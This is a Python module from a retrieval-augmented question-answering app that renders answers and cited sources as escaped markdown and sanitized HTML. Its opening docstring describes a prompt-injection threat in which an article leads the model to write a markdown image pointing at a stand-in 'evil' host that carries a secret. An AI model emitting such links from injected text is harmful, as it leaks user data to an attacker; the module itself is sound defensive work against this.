"""Everything the page shows, rendered from rag/ objects into safe markdown and HTML.

Article text and model output are untrusted: an article can carry a prompt injection that makes
the model write `![x](https://evil/?q=secret)`, and the page must not fetch it. So

- chat text is turned into markdown with every ASCII punctuation character backslash-escaped:
  no markdown image, link, autolink, HTML tag or entity can form, whatever the text holds; the
  only markup is what this module adds ([n] markers in bold, the "searched for" line);
- the sources panel is built with every value HTML-escaped, links only for http(s) URLs, and
  the result passed through nh3 with a small allowlist (no img, no style, no script, no event
  attributes) as a second line of defence.
"""
from __future__ import annotations

import html
import re
from typing import Iterable
from urllib.parse import urlsplit

import nh3

from rag.text import MARKER_RUN, format_date
from rag.types import Answer, Citation, Hit, Retrieved

_PUNCT = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")

ALLOWED_TAGS = {"div", "section", "article", "header", "p", "span", "strong", "em", "mark", "blockquote", "a",
                "details", "summary", "ol", "ul", "li", "small", "h3", "h4"}
ALLOWED_ATTRS = {"*": {"class", "id"}, "a": {"href", "title", "target"}}


def escape_md(text: str) -> str:
    """Plain text -> markdown that renders as exactly that text (nothing in it is live)."""
    text = _CONTROL.sub("", text or "")
    return _PUNCT.sub(r"\\\1", text)


def answer_markdown(text: str, *, searched_for: str | None = None, note: str | None = None,
                    streaming: bool = False) -> str:
    """An assistant message: optional "searched for" line, the answer with bold [n] markers, a note."""
    parts = []
    if searched_for:
        parts.append(f"*Searched for: {escape_md(searched_for)}*")
    body = "".join(
        f"**{escape_md(piece)}**" if i % 2 else escape_md(piece)
        # a run of markers ("[1][2]") is bolded as one: "**[1]****[2]**" would not render as bold
        for i, piece in enumerate(MARKER_RUN.split(text or ""))
    )
    if streaming:
        body += " ▍"
    parts.append(body)
    if note:
        parts.append(f"*{escape_md(note)}*")
    return "\n\n".join(p for p in parts if p)


def user_markdown(question: str) -> str:
    return escape_md(question)


def timing_note(answer: Answer) -> str:
    t = answer.timings
    if answer.abstained and t.ttft_s is None:
        return f"Searched {len(answer.hits)} passages in {t.total_s:.1f} s"
    first = f"first words after {t.ttft_s:.1f} s, " if t.ttft_s is not None else ""
    return f"{first}complete in {t.total_s:.1f} s"


# ---------------------------------------------------------------------- sources panel


def sources_html(answer: Answer | None, *, pending: str | None = None) -> str:
    """The sources panel for `answer` (None: the panel before any question)."""
    if pending is not None:
        body = f'<p class="src-empty">Searching the articles for: <em>{_e(pending)}</em></p>'
    elif answer is None:
        body = ('<p class="src-empty">Ask a question: the passages its answer rests on appear here, '
                'with the supporting sentence highlighted.</p>')
    elif answer.abstained:
        body = ('<p class="src-empty"><strong>No sources.</strong> The question was declined, so no passage '
                'is cited.</p>') + _searched(answer, "Closest material found")
    elif not answer.citations:
        body = ('<p class="src-empty"><strong>No passage cited.</strong> Check the answer against the '
                'passages searched below.</p>') + _searched(answer)
    else:
        cards = "".join(citation_card(c) for c in answer.citations)
        body = f'<div class="src-list">{cards}</div>' + _searched(answer)
    return clean(f'<section class="sources">{body}</section>')


def found_html(found: Retrieved) -> str:
    """The sources panel while the answer is written: the passages the search found."""
    if not found.hits:
        body = '<p class="src-empty">No passage found; the answer will say why.</p>'
    else:
        items = "".join(_hit_item(h) for h in found.hits)
        body = (f'<p class="src-empty">Found {len(found.hits)} passages in {found.retrieval_s:.2f} s; the answer '
                f'is being written and will mark the ones it cites.</p><ol class="src-found">{items}</ol>')
    return clean(f'<section class="sources">{body}</section>')


def citation_card(c: Citation) -> str:
    meta = [m for m in (_e(c.source) if c.source else "", _e(format_date(c.published_at, day_first=True))) if m]
    link = safe_url(c.url)
    if link:
        meta.append(f'<a href="{_e(link)}" target="_blank" title="{_e(link)}">{_e(urlsplit(link).netloc or link)}</a>')
    return (
        f'<article class="src-card" id="source-{c.number}">'
        f'<header><span class="src-num">[{c.number}]</span> <strong class="src-title">{_e(c.title)}</strong></header>'
        f'<div class="src-meta">{" · ".join(meta) or "outlet and date unknown"}</div>'
        f"{highlight(c.quote, c.highlight)}</article>"
    )


def _searched(answer: Answer, label: str = "") -> str:
    cited = {c.chunk_id for c in answer.citations}
    rest = [h for h in answer.hits if h.chunk.id not in cited]
    if not rest:
        return ""
    items = "".join(_hit_item(h) for h in rest)
    label = label or ("Other passages searched" if cited else "Passages searched")
    return f'<details class="src-searched"><summary>{label} ({len(rest)})</summary><ol>{items}</ol></details>'


def _hit_item(h: Hit) -> str:
    c = h.chunk
    meta = ", ".join(x for x in (c.source or "", format_date(c.published_at, day_first=True)) if x)
    snippet = c.text if len(c.text) <= 240 else c.text[:240].rsplit(" ", 1)[0] + " …"
    return (f'<li><strong>{_e(c.title)}</strong> <small>({_e(meta) + ", " if meta else ""}similarity '
            f'{h.score:.2f})</small><br><span class="src-snippet">{_e(snippet)}</span></li>')


def highlight(passage: str, sentence: str, *, context: int = 160) -> str:
    """The passage, escaped, in a blockquote with the supporting sentence in <mark>. A long
    passage is cut to the sentence and about `context` characters either side, and the whole
    passage folds out below it."""
    passage = _CONTROL.sub("", passage or "")
    i = passage.find(sentence) if sentence else -1
    if i < 0:
        return f'<blockquote class="src-quote">{_e(passage)}</blockquote>'
    j = i + len(sentence)
    a = 0 if i <= context else passage.rfind(" ", 0, i - context) + 1
    b = passage.find(" ", j + context) if len(passage) - j > context else -1
    b = len(passage) if b < 0 else b
    shown = (("… " if a else "") + _e(passage[a:i]) + f"<mark>{_e(passage[i:j])}</mark>" + _e(passage[j:b])
             + (" …" if b < len(passage) else ""))
    quote = f'<blockquote class="src-quote">{shown}</blockquote>'
    if a == 0 and b == len(passage):
        return quote
    whole = f"{_e(passage[:i])}<mark>{_e(passage[i:j])}</mark>{_e(passage[j:])}"
    return f'{quote}<details class="src-whole"><summary>Whole passage</summary><p>{whole}</p></details>'


def safe_url(url: str | None) -> str | None:
    """`url` when it is a plain http(s) URL with a host; None for javascript:, data:, relative ..."""
    if not url:
        return None
    url = url.strip()
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    if parts.scheme.lower() not in {"http", "https"} or not parts.netloc or any(ch in url for ch in "\"'<> \\"):
        return None
    return url


def clean(fragment: str) -> str:
    return nh3.clean(fragment, tags=ALLOWED_TAGS | {"br"}, attributes=ALLOWED_ATTRS, url_schemes={"http", "https"},
                     link_rel="noopener noreferrer nofollow", strip_comments=True)


def _e(text: str | None) -> str:
    return html.escape(_CONTROL.sub("", text or ""), quote=True)


# ---------------------------------------------------------------------- the index


def index_summary(manifest: dict) -> str:
    """'**3 articles** from 2 outlets (A, B), 2 February 2023 to 5 March 2023 · 41 passages' (markdown)."""
    counts = manifest.get("counts", {})
    n, chunks = counts.get("articles", 0), counts.get("chunks", 0)
    sources = manifest.get("sources") or []
    outlets = f"{len(sources)} outlet{'s' if len(sources) != 1 else ''}"
    if sources:
        shown = ", ".join(sources[:5]) + (" …" if len(sources) > 5 else "")
        outlets += f" ({shown})"
    dr = manifest.get("date_range")
    first, last = (format_date(d, day_first=True) for d in (dr or [None, None])[:2])
    dates = f"{first} to {last}" if dr and dr[0] != dr[1] else first if dr else "dates unknown"
    text = f"{n} article{'s' if n != 1 else ''} from {outlets}, {dates}, {chunks} passages"
    return f"**Indexed:** {escape_md(text)}"


def article_label(title: str, source: str | None, published_at: str | None) -> str:
    meta = ", ".join(x for x in (source or "", format_date(published_at, day_first=True)) if x)
    title = title if len(title) <= 90 else title[:87] + "…"
    return f"{title} ({meta})" if meta else title


def report_markdown(lines: Iterable[str]) -> str:
    return "\n".join(f"- {escape_md(line)}" for line in lines)
